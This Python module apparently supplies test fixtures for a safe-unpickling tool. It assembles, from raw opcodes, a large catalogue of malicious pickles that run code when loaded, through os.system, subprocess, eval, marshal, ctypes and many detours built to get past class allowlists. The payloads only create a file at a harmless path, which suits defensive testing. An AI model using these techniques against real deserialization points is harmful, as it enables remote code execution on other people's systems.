"""Pickles that run code: each makes something in a directory of its own when it is loaded by plain pickle.

They are put together of opcodes (see :mod:`pickletools`), for a pickler does not write most of them.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import types

__all__ = ["MAY_NOT_FIRE", "PAYLOADS", "Innocent"]


class Innocent:
    """What is allowed by those who try these pickles."""

    def __init__(self, x=0):
        self.x = x


def v(value):
    """Return the opcodes of a plain value, without any memo."""
    file = io.BytesIO()
    pickler = pickle.Pickler(file, 3)
    pickler.fast = True
    pickler.dump(value)
    return file.getvalue()[2:-1]


def g(name):
    """Return the opcodes that find ``module:name``."""
    module, name = name.split(":")
    return v(module) + v(name) + b"\x93"


def args(*parts):
    return b"(" + b"".join(parts) + b"t"


def ap(function, *parts):
    """Return the opcodes that call a function."""
    return function + args(*parts) + b"R"


def items(*parts):
    return b"](" + b"".join(parts) + b"e"


def at(thing, name):
    return ap(g("builtins:getattr"), thing, v(name))


def module(name):
    return ap(g("importlib:import_module"), v(name))


def state(**parts):
    return b"}(" + b"".join(v(key) + part for key, part in parts.items()) + b"u"


def whole(body, protocol=5):
    return b"\x80" + bytes([protocol]) + body + b"."


SYSTEM = g("os:system")
HERE = f"{__name__}:Innocent"
NEW = g(HERE) + b")\x81"


def code_type(source):
    code = compile(source, "x", "exec")
    names = (
        "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name "
        "qualname firstlineno linetable exceptiontable freevars cellvars"
    ).split()
    return ap(g("types:CodeType"), *(v(getattr(code, f"co_{name}")) for name in names))


def payloads(path, script):
    """Return pickles by name, each of which makes something at a path."""
    folder, base = os.path.split(path)
    shell, source = f"touch {path}", f"open({path!r}, 'w').close()"
    sh, src, p = v(shell), v(source), v(path)
    run = ap(SYSTEM, sh)
    inner = whole(run)
    compiled = ap(g("builtins:compile"), src, v("x"), v("exec"))
    partial = ap(g("functools:partial"), SYSTEM, sh)
    line = shell.encode()
    bodies = {
        # Processes.
        "os.system": run,
        "posix.system": ap(g("posix:system"), sh),
        "os.spawnlp": ap(g("os:spawnlp"), v(os.P_WAIT), v("touch"), v("touch"), p),
        "os.execlp": ap(g("os:execlp"), v("touch"), v("touch"), p),
        "subprocess.run": ap(g("subprocess:run"), v(["touch", path])),
        "subprocess.call": ap(g("subprocess:call"), v(["touch", path])),
        "subprocess.check_output": ap(g("subprocess:check_output"), v(["touch", path])),
        "subprocess.getoutput": ap(g("subprocess:getoutput"), sh),
        "subprocess.Popen.wait": ap(at(ap(g("subprocess:Popen"), v(["touch", path])), "wait")),
        "os.popen.read": ap(at(ap(g("os:popen"), sh), "read")),
        "pty.spawn": ap(g("pty:spawn"), v(["touch", path])),
        "webbrowser": ap(at(ap(g("webbrowser:GenericBrowser"), v(["touch", "%s"])), "open"), p),
        "ctypes": ap(at(ap(g("ctypes:CDLL"), b"N"), "system"), v(line)),
        # Files.
        "os.open": ap(g("os:open"), p, v(os.O_CREAT | os.O_WRONLY)),
        "os.mkdir": ap(g("os:mkdir"), p),
        "open": ap(g("builtins:open"), p, v("w")),
        "io.open": ap(g("io:open"), p, v("w")),
        "io.FileIO": ap(g("_io:FileIO"), p, v("w")),
        "codecs.open": ap(g("codecs:open"), p, v("w")),
        "pathlib": ap(g("pathlib:Path.touch"), ap(g("pathlib:Path"), p)),
        "shutil.copy": ap(g("shutil:copy"), v(script), p),
        "zipfile": ap(g("zipfile:ZipFile"), p, v("w")),
        "tempfile": ap(g("tempfile:mkdtemp"), v(""), v(base), v(folder)),
        "logging": ap(g("logging:FileHandler"), p),
        "urllib": ap(g("urllib.request:urlretrieve"), v(f"file://{script}"), p),
        "gzip": ap(g("gzip:open"), p, v("w")),
        # Code as text.
        "eval": ap(g("builtins:eval"), src),
        "exec": ap(g("builtins:exec"), src),
        "compile": ap(g("builtins:exec"), compiled),
        "__import__": ap(at(ap(g("builtins:__import__"), v("os")), "system"), sh),
        "importlib": ap(at(module("os"), "system"), sh),
        "runpy._run_code": ap(g("runpy:_run_code"), compiled, b"}"),
        "runpy.run_path": ap(g("runpy:run_path"), v(script)),
        "timeit": ap(g("timeit:timeit"), src, v("pass"), g("time:perf_counter"), v(1)),
        "cProfile": ap(g("cProfile:run"), src, v(f"{script}.profile")),
        "profile": ap(g("profile:run"), src, v(f"{script}.profile")),
        "bdb": ap(at(ap(g("bdb:Bdb")), "run"), src),
        "trace": ap(at(ap(g("trace:Trace"), v(0), v(0)), "run"), src),
        "doctest": ap(g("doctest:debug_script"), src, v(True)),
        "code": ap(at(ap(g("code:InteractiveInterpreter")), "runsource"), src),
        "pydoc.pipepager": ap(g("pydoc:pipepager"), v("x"), v(f"cat > {path}")),
        "pip": ap(g("pip:main"), v(["--disable-pip-version-check", "--log", path, "list"])),
        "ensurepip": ap(g("ensurepip:_run_pip"), v(["--disable-pip-version-check", "--log", path, "list"])),
        "idlelib": ap(g("idlelib.calltip:get_entity"), src),
        "numpy": ap(g("numpy.testing._private.utils:runstring"), src, b"}"),
        "FunctionType": ap(
            ap(g("types:FunctionType"), compiled, b"}(" + v("__builtins__") + module("builtins") + b"u")
        ),
        "CodeType": ap(g("builtins:exec"), code_type(source)),
        "marshal": ap(g("builtins:exec"), ap(g("marshal:loads"), v(marshal.dumps(compile(source, "x", "exec"))))),
        # Calls by a detour.
        "functools.partial": ap(partial),
        "functools.reduce": ap(g("functools:reduce"), g("os:open"), v([path, os.O_CREAT | os.O_WRONLY])),
        "operator.methodcaller": ap(ap(g("operator:methodcaller"), v("system"), sh), module("os")),
        "operator.attrgetter": ap(ap(ap(g("operator:attrgetter"), v("system")), module("os")), sh),
        "operator.call": ap(g("operator:call"), SYSTEM, sh),
        "itertools.starmap": ap(g("builtins:list"), ap(g("itertools:starmap"), SYSTEM, items(args(sh)))),
        "map and list": ap(g("builtins:list"), ap(g("builtins:map"), SYSTEM, items(sh))),
        "map and bytes": ap(g("builtins:bytes"), ap(g("builtins:map"), SYSTEM, items(sh))),
        "filter and deque": ap(g("collections:deque"), ap(g("builtins:filter"), SYSTEM, items(sh))),
        "MethodType": ap(ap(g("types:MethodType"), SYSTEM, sh)),
        "pkgutil": ap(ap(g("pkgutil:resolve_name"), v("os:system")), sh),
        "multiprocessing": ap(g("multiprocessing.pool:mapstar"), args(SYSTEM, items(sh))),
        "asyncio": ap(g("asyncio:run"), ap(g("asyncio:to_thread"), SYSTEM, sh)),
        "concurrent.futures": ap(
            at(ap(at(ap(g("concurrent.futures:ThreadPoolExecutor"), v(1)), "submit"), SYSTEM, sh), "result")
        ),
        "copyreg._reconstructor": ap(
            ap(g("copyreg:_reconstructor"), g("functools:partial"), g("functools:partial"), SYSTEM), sh
        ),
        "copyreg.__newobj__": ap(ap(g("copyreg:__newobj__"), g("functools:partial"), SYSTEM, sh)),
        "extension": ap(g("copyreg:add_extension"), v("os"), v("system"), v(200)) + b"0\x82\xc8" + args(sh) + b"R",
        "extension of four bytes": ap(g("copyreg:add_extension"), v("os"), v("system"), v(70_000))
        + b"0\x84\x70\x11\x01\x00"
        + args(sh)
        + b"R",
        # Names by a detour.
        "dotted": ap(g("os:path.os.system"), sh),
        "dotted through collections": ap(at(ap(g("collections:_sys.modules.get"), v("os")), "system"), sh),
        "dotted from an allowed class": ap(
            ap(g("builtins:dict.get"), ap(g(f"{HERE}.__init__.__globals__.get"), v("__builtins__")), v("eval")), src
        ),
        "dotted builtins": ap(
            g(f"{HERE}.__init__.__builtins__.__class__.get"), g(f"{HERE}.__init__.__builtins__"), v("eval")
        )
        + args(src)
        + b"R",
        "a name made while loading": ap(v("os") + ap(g("builtins:str.join"), v(""), v(["sys", "tem"])) + b"\x93", sh),
        "memo overwritten": ap(v(__name__) + b"q\x000" + v("os") + b"q\x000" + b"h\x00" + v("system") + b"\x93", sh),
        "memo of another kind": ap(
            v("os") + b"\x940" + v(HERE) + b"r\x05\x00\x00\x000" + b"h\x00" + v("system") + b"\x93", sh
        ),
        "find_class": ap(
            ap(at(ap(g("pickle:Unpickler"), ap(g("io:BytesIO"))), "find_class"), v("os"), v("system")), sh
        ),
        # Objects of an allowed class.
        "in its state": NEW + state(x=run) + b"b",
        "in its slots": NEW + args(b"N", state(x=run)) + b"b",
        "in its arguments": ap(g(HERE), run),
        "its attribute is a function": g(HERE) + args(b"N", state(hook=SYSTEM)) + b"b0" + ap(g(f"{HERE}.hook"), sh),
        "its __setstate__ is a function": g(HERE) + args(b"N", state(__setstate__=SYSTEM)) + b"b0" + NEW + sh + b"b",
        "its append is a function": NEW + state(append=SYSTEM) + b"b" + sh + b"a",
        "its add is a function": NEW + state(add=SYSTEM) + b"b(" + sh + b"\x90",
        "its globals": ap(g(f"{HERE}.__init__.__globals__.__getitem__"), v("os"))
        + b"0"
        + ap(g(f"{__name__}:os.system"), sh),
        # Opcodes.
        "NEWOBJ": g("functools:partial") + args(SYSTEM, sh) + b"\x81)R",
        "NEWOBJ_EX": g("functools:partial") + args(SYSTEM, sh) + b"}\x92)R",
        "OBJ": b"(" + SYSTEM + sh + b"o",
        "INST": b"(" + sh + b"ios\nsystem\n",
        "in a dict": b"}" + v("a") + run + b"s",
        "in a set": b"\x8f(" + run + b"\x90",
        "under other values": v([1, 2]) + b"0" + run + b"0" + v("harmless"),
        # Pickles in pickles.
        "pickle.loads": ap(g("pickle:loads"), v(inner)),
        "_pickle.loads": ap(g("_pickle:loads"), v(inner)),
        "pickle._loads": ap(g("pickle:_loads"), v(inner)),
        "dill.loads": ap(g("dill:loads"), v(inner)),
        "cloudpickle.loads": ap(g("cloudpickle:loads"), v(inner)),
        "lib2to3": ap(at(ap(g("lib2to3.pgen2.grammar:Grammar")), "loads"), v(inner)),
        "a failure": g("zpersist.failure:Failure") + b")\x81" + state(exception=v(inner), text=v("")) + b"b",
        "another codec": ap(at(ap(g("zpersist.codecs.pickle:PickleCodec")), "loads"), v(inner)),
    }
    found = {name: whole(body) for name, body in bodies.items()}
    return found | {
        "protocol 0": b"cos\nsystem\n(V" + line + b"\ntR.",
        "protocol 0, put and got": b"cos\nsystem\np0\n(S'" + line + b"'\np1\ntp2\nRp3\n.",
        "protocol 1": b"cos\nsystem\nq\x00(X" + len(line).to_bytes(4, "little") + line + b"q\x01tq\x02Rq\x03.",
        "protocol 2": b"\x80\x02cposix\nsystem\nq\x00X" + len(line).to_bytes(4, "little") + line + b"q\x01\x85Rq\x02.",
        "protocol 3": whole(run, 3),
        "protocol 4, framed": b"\x80\x04\x95" + (len(run) + 1).to_bytes(8, "little") + run + b".",
        "names of Python 2": b"\x80\x02c__builtin__\neval\n(" + src + b"tR.",
        "modules of Python 2": b"\x80\x02ccommands\ngetoutput\n(" + sh + b"tR.",
        "what pickle writes": pickle.dumps(types.SimpleNamespace(x=Call(shell)), 5),
        "more behind it": whole(run) + b"garbage",
        "no end": whole(run)[:-1],
    }


class Call:
    def __init__(self, shell):
        self.shell = shell

    def __reduce__(self):
        return os.system, (self.shell,)


#: These need what not every Python has.
MAY_NOT_FIRE = {"pip", "ensurepip", "idlelib", "lib2to3", "pydoc.pipepager", "cloudpickle.loads", "trace"}

PAYLOADS = list(payloads("/nowhere/x", "/nowhere/y"))
